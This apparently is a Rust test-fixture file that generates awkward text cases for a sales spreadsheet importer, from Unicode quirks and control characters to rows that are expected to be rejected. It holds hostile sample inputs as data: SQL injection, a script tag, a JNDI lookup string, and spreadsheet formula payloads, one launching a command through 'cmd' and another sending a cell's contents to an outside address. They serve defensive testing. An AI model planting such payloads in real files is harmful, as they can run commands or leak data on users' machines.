//! Text that is hard to carry unchanged.

use super::super::draft::{Fate, ITEM, METHOD, NOTES, PAID, SALE, plain};
use super::{APOSTROPHES, ENCODING, OPTIONAL, Quirk, bad_cell, good_cell, good_sale, quirk, sale};

/// Items that are kept as they are.
const ITEMS: [(&str, &str); 20] = [
    ("text composed", "Cr\u{E8}me br\u{FB}l\u{E9}e"),
    ("text decomposed", "Cre\u{300}me bru\u{302}le\u{301}e"),
    ("text right to left", "ערכת טיפוס"),
    (
        "text with a bidirectional override",
        "invoice\u{202E}gpj.exe",
    ),
    ("text of emoji", "🧗🏽‍♀️ day pass 🇸🇬"),
    ("text of wide characters", "登山靴レンタル"),
    ("text beyond the basic plane", "𠜎𠜱𝄞"),
    ("text with a zero width space", "Ro\u{200B}pe"),
    ("text of a zero width space alone", "\u{200B}"),
    ("text with a byte order mark within", "Ro\u{FEFF}pe"),
    ("text with a line separator", "Ro\u{2028}pe\u{2029}"),
    ("text with a next line", "Ro\u{85}pe"),
    ("text of a noncharacter", "Ro\u{FFFF}pe"),
    ("text with a replacement character", "Ro\u{FFFD}pe"),
    (
        "text of many combining marks",
        "Z\u{351}\u{36B}\u{343}\u{36A}\u{302}\u{36B}\u{33D}\u{34F}\u{334}\u{319}algo",
    ),
    ("text in private use", "\u{E000}\u{F8FF}"),
    ("text between hard spaces", "\u{A0}Rope\u{A0}"),
    ("text with smart quotes", "“Rope” ‘60m’"),
    ("text with a soft hyphen", "quick\u{AD}draw"),
    ("text with a dotted capital I", "İstanbul ıI"),
];

/// Items of ASCII alone.
const PLAIN: [(&str, &str); 15] = [
    ("text with a bell", "Ro\u{7}pe"),
    ("text with an escape sequence", "\u{1B}[31mRope\u{1B}[0m"),
    ("text with a delete", "Ro\u{7F}pe"),
    ("text with a start of heading", "Ro\u{1}pe"),
    ("text with a vertical tab", "Ro\u{B}pe"),
    ("text with a form feed", "Ro\u{C}pe"),
    ("text between spaces", "  Rope  "),
    ("text with a backslash", "C:\\new\\table"),
    ("text with a percent", "100%s %n %x"),
    ("text that is SQL", "'; DROP TABLE sales; --"),
    ("text that is HTML", "<script>alert(1)</script>"),
    ("text that is a template", "${jndi:ldap://x}{{7*7}}"),
    ("text that is a number", "1e5"),
    ("text that is true", "TRUE"),
    ("text with a tab within", "Ro\tpe"),
];

/// Notes that a spreadsheet would run.
const FORMULAS: [(&str, &str); 8] = [
    ("formula with equals", "=1+1"),
    ("formula with plus", "+cmd|' /C calc'!A0"),
    ("formula with minus", "-2+3+cmd"),
    ("formula with at", "@SUM(A1:A9)"),
    ("formula behind a tab", "\t=1+1"),
    ("formula behind a space", " =1+1"),
    ("formula that calls home", "=HYPERLINK(\"http://x/?\"&A1)"),
    ("formula with an apostrophe", "'=1+1"),
];

pub(super) fn quirks() -> Vec<Quirk> {
    let items = ITEMS
        .into_iter()
        .map(|(name, text)| good_cell(name, ENCODING, ITEM, plain(text)));
    let plain_items = PLAIN
        .into_iter()
        .map(|(name, text)| good_cell(name, 0, ITEM, plain(text)));
    let formulas = FORMULAS
        .into_iter()
        .map(|(name, text)| good_cell(name, OPTIONAL | APOSTROPHES, NOTES, plain(text)));
    let rejected = FORMULAS.map(|(_, text)| text);
    let rejected = quirk(
        "formulas in rejected rows",
        OPTIONAL | APOSTROPHES,
        move |draft| {
            for text in rejected {
                let fate = Fate::Rejected("invalid-number");
                let odd = sale("formulas", fate).with(PAID, plain("n/a"));
                draft.insert(odd.with(NOTES, plain(text)).with(METHOD, plain(text)));
            }
        },
    );
    let normal = quirk(
        "texts that differ in their normal form",
        ENCODING,
        |draft| {
            for text in ["Caf\u{E9}", "Cafe\u{301}", "CAF\u{C9}"] {
                draft.insert(good_sale("normal forms").with(ITEM, plain(text)));
            }
        },
    );
    let others = [
        bad_cell(
            "item of a hard space",
            ENCODING,
            ITEM,
            plain("\u{A0}"),
            "missing-value",
        ),
        bad_cell(
            "item of an ideographic space",
            ENCODING,
            ITEM,
            plain("\u{3000}"),
            "missing-value",
        ),
        bad_cell("item of blanks", 0, ITEM, plain("   "), "missing-value"),
        bad_cell("item left out", 0, ITEM, plain(""), "missing-value"),
        bad_cell("item that is none", 0, ITEM, plain("---"), "missing-value"),
        bad_cell("sale left out", 0, SALE, plain(""), "missing-value"),
        bad_cell(
            "sale that is none",
            0,
            SALE,
            plain(" --- "),
            "missing-value",
        ),
        good_cell("item of two dashes", 0, ITEM, plain("--")),
        good_cell("item of four dashes", 0, ITEM, plain("----")),
        good_cell("sale between spaces", 0, SALE, plain("  S-1  ")),
        good_cell("sale with leading zeros", 0, SALE, plain("0003971")),
        good_cell("sale like an exponent", 0, SALE, plain("1E+15")),
        good_cell("sale of words", 0, SALE, plain("till 2 / #7")),
        good_cell(
            "sale of ten thousand digits",
            0,
            SALE,
            plain("9".repeat(10_000)),
        ),
        normal,
        rejected,
    ];
    let mut quirks: Vec<Quirk> = items.chain(plain_items).chain(formulas).collect();
    quirks.extend(others);
    quirks
}
